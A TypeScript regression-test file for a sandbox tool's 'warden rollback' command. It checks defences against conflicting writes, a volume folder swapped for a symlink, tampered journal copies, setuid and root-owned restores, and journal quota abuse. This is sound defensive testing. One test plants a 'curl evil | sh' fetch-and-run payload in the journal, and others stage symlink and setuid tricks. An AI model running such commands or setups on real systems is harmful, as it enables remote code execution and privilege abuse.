/**
 * Regressions of the hostile review (issue 19) against `warden rollback`: a
 * tool that controls what is in its volume (an isolate through ctx.fs, a
 * container tool writing directly, simulated here by writes from the test)
 * must not make a rollback destroy other work, write outside the volume,
 * restore privileges, or restore content the journal no longer vouches for.
 */
import assert from "node:assert/strict";
import { chmodSync, lstatSync, mkdirSync, readdirSync, readFileSync, renameSync, statSync, symlinkSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { describe, test } from "node:test";
import { CANARY, workspace } from "../journal/fixtures/workspace.js";
import type { AuditRecord } from "../../src/audit/index.js";

function lastRollback(auditFile: string): AuditRecord {
  const records = readFileSync(auditFile, "utf8").trim().split("\n").map((l) => JSON.parse(l) as AuditRecord);
  return records.filter((r) => r.tool === "warden.rollback").at(-1)!;
}

describe("rollback: changes made outside the journal", () => {
  test("a later write by something else (a container tool) to a path the call wrote is detected; --force overrides", async () => {
    const w = workspace();
    await w.callOk("call-1", [{ op: "writeFile", path: "/mnt/ws/report.txt", data: "isolate wrote this" }]);
    writeFileSync(join(w.ws, "report.txt"), "a container tool wrote this later");
    const refused = await w.rollback("call-1");
    assert.equal(refused.code, 1);
    assert.match(refused.stderr, /refusing to roll back call call-1: paths it changed were changed again since, outside the journal/);
    assert.match(refused.stderr, /\/mnt\/ws\/report\.txt: changed since the call \(the call left a file/);
    assert.equal(readFileSync(join(w.ws, "report.txt"), "utf8"), "a container tool wrote this later", "the later write survives");
    const record = lastRollback(w.auditFile);
    assert.equal(record.errorCode, "E_CONFLICT");
    assert.ok(record.files.some((f) => f.path === "/mnt/ws/report.txt" && f.denied?.startsWith("changed since the call")));

    const forced = await w.rollback("call-1", true);
    assert.equal(forced.code, 0, forced.stderr);
    assert.deepEqual(readdirSync(w.ws), [], "the call created it, so the forced rollback removes it");
  });

  test("a file created by something else inside a folder the call created is detected", async () => {
    const w = workspace();
    await w.callOk("call-1", [
      { op: "mkdir", path: "/mnt/ws/out" },
      { op: "writeFile", path: "/mnt/ws/out/a.txt", data: "a" },
    ]);
    writeFileSync(join(w.ws, "out", "b.txt"), "written later by a container tool");
    const refused = await w.rollback("call-1");
    assert.equal(refused.code, 1);
    assert.match(refused.stderr, /\/mnt\/ws\/out\/b\.txt: created since the call by something else/);
    assert.equal(readFileSync(join(w.ws, "out", "b.txt"), "utf8"), "written later by a container tool");
  });

  test("the call's own later changes (overwrite, rm -r of a parent, recreate) are not mistaken for outside changes", async () => {
    const w = workspace();
    mkdirSync(join(w.ws, "docs"));
    writeFileSync(join(w.ws, "docs", "r.md"), "r");
    await w.callOk("call-1", [
      { op: "writeFile", path: "/mnt/ws/docs/r.md", data: "r2" },
      { op: "rm", path: "/mnt/ws/docs", recursive: true },
      { op: "mkdir", path: "/mnt/ws/docs" },
      { op: "writeFile", path: "/mnt/ws/docs/new.md", data: "n" },
    ]);
    const result = await w.rollback("call-1");
    assert.equal(result.code, 0, result.stderr);
    assert.deepEqual(readdirSync(join(w.ws, "docs")), ["r.md"]);
  });
});

describe("rollback: the volume folder and the journal", () => {
  test("a volume folder replaced by a link to an outside folder: rollback (even --force) neither writes nor deletes there", async () => {
    const w = workspace();
    await w.callOk("call-1", [{ op: "writeFile", path: "/mnt/ws/a.txt", data: "new" }]);
    writeFileSync(join(w.evil, "a.txt"), CANARY);
    renameSync(w.ws, `${w.ws}-moved`);
    symlinkSync(w.evil, w.ws);
    const result = await w.rollback("call-1", true);
    assert.equal(result.code, 1);
    assert.match(result.stderr, /INCOMPLETE[\s\S]*\/mnt\/ws\/a\.txt: the folder of volume ws is not the one the call changed/);
    assert.deepEqual(readdirSync(w.evil).sort(), ["a.txt", "canary.txt"]);
    assert.equal(readFileSync(join(w.evil, "a.txt"), "utf8"), CANARY, "the outside file was not deleted");
  });

  test("nested volumes are refused before any rollback (exit 2)", async () => {
    const w = workspace();
    writeFileSync(w.configPath, JSON.stringify({ tools: ["./tools/*"], volumes: { ws: { path: "./ws" }, inner: { path: "./ws/inner" } }, audit: { file: "./audit/a.jsonl" }, journal: { dir: "./journal" } }));
    const result = await w.rollback("call-1");
    assert.equal(result.code, 2);
    assert.match(result.stderr, /E_CONFIG: .*volumes\.ws .* and volumes\.inner .* overlap/);
  });

  test("a pre-image rewritten in the journal after the call is not restored", async () => {
    const w = workspace();
    writeFileSync(join(w.ws, "a.txt"), "original");
    await w.callOk("call-1", [{ op: "writeFile", path: "/mnt/ws/a.txt", data: "changed" }]);
    const blob = readdirSync(join(w.journalDir, "call-1")).find((n) => n.endsWith(".blob"))!;
    writeFileSync(join(w.journalDir, "call-1", blob), "#!/bin/sh\ncurl evil | sh\n");
    const result = await w.rollback("call-1");
    assert.equal(result.code, 1);
    assert.match(result.stderr, /INCOMPLETE[\s\S]*\/mnt\/ws\/a\.txt: the journal's copy of this file was changed after it was recorded \(sha256 mismatch\)/);
    assert.equal(readFileSync(join(w.ws, "a.txt"), "utf8"), "changed");
    assert.deepEqual(readdirSync(w.ws), ["a.txt"], "no temp file left behind");
  });
});

describe("rollback: privileges", () => {
  test("setuid, setgid and sticky bits are never restored, and nothing is restored owned by root", async () => {
    const w = workspace();
    // A container tool left a setuid root binary and a setgid, sticky folder in the volume.
    writeFileSync(join(w.ws, "id"), readFileSync("/usr/bin/id"));
    chmodSync(join(w.ws, "id"), 0o4755);
    mkdirSync(join(w.ws, "shared"));
    writeFileSync(join(w.ws, "shared", "x"), "x");
    chmodSync(join(w.ws, "shared"), 0o3775);
    await w.callOk("call-1", [
      { op: "writeFile", path: "/mnt/ws/id", data: "overwritten by an isolate call" },
      { op: "rm", path: "/mnt/ws/shared", recursive: true },
    ]);
    const result = await w.rollback("call-1");
    assert.equal(result.code, 0, result.stderr);
    const file = statSync(join(w.ws, "id"));
    assert.equal(file.mode & 0o7777, 0o755, "permission bits only");
    assert.deepEqual(readFileSync(join(w.ws, "id")), readFileSync("/usr/bin/id"));
    const dir = lstatSync(join(w.ws, "shared"));
    assert.equal(dir.mode & 0o7777, 0o775);
    if (process.geteuid?.() === 0) {
      for (const p of ["id", "shared", "shared/x"]) assert.notEqual(lstatSync(join(w.ws, p)).uid, 0, `${p} is not owned by root`);
    } else console.error("*** not root: the ownership half of this test only checks that nothing fails ***");
  });
});

describe("rollback: privileges of recreated parents", () => {
  test("folders a forced rollback must recreate above a restored file are not owned by root", async () => {
    const w = workspace();
    mkdirSync(join(w.ws, "d1", "d2"), { recursive: true });
    writeFileSync(join(w.ws, "d1", "d2", "f.txt"), "before");
    await w.callOk("call-1", [{ op: "writeFile", path: "/mnt/ws/d1/d2/f.txt", data: "after" }]);
    const { rmSync } = await import("node:fs");
    rmSync(join(w.ws, "d1"), { recursive: true });
    const result = await w.rollback("call-1", true);
    assert.equal(result.code, 0, result.stderr);
    assert.equal(readFileSync(join(w.ws, "d1", "d2", "f.txt"), "utf8"), "before");
    if (process.geteuid?.() === 0) for (const p of ["d1", "d1/d2", "d1/d2/f.txt"]) assert.notEqual(lstatSync(join(w.ws, p)).uid, 0, `${p} is not owned by root`);
    else console.error("*** not root: ownership not checked ***");
  });
});

describe("journal budget: each tool has a share", () => {
  test("one tool's repeated writes are refused at its share; another tool can still write", async () => {
    const w = workspace({ maxBytes: 64 * 1024 });
    for (let i = 0; i < 40; i++) writeFileSync(join(w.ws, `g${i}`), "g".repeat(3000));
    writeFileSync(join(w.ws, "polite.txt"), "p".repeat(3000));
    let refusal: string | undefined;
    for (let i = 0; i < 40 && !refusal; i++) {
      const [r] = await w.call(`greedy-${i}`, [{ op: "writeFile", path: `/mnt/ws/g${i}`, data: "x" }], "greedy_tool");
      if (!r!.ok) refusal = r!.error!.message;
    }
    assert.ok(refusal, "the greedy tool was refused");
    assert.match(refusal, /greedy_tool's share of the rollback journal is full .*journal\.maxBytes/);
    assert.ok((await w.journal.usedBytes()) <= 16 * 1024 + 4096, "the greedy tool holds about a quarter");
    await w.callOk("polite-1", [{ op: "writeFile", path: "/mnt/ws/polite.txt", data: "ok" }], "polite_tool");
    assert.equal(readFileSync(join(w.ws, "polite.txt"), "utf8"), "ok");
  });
});
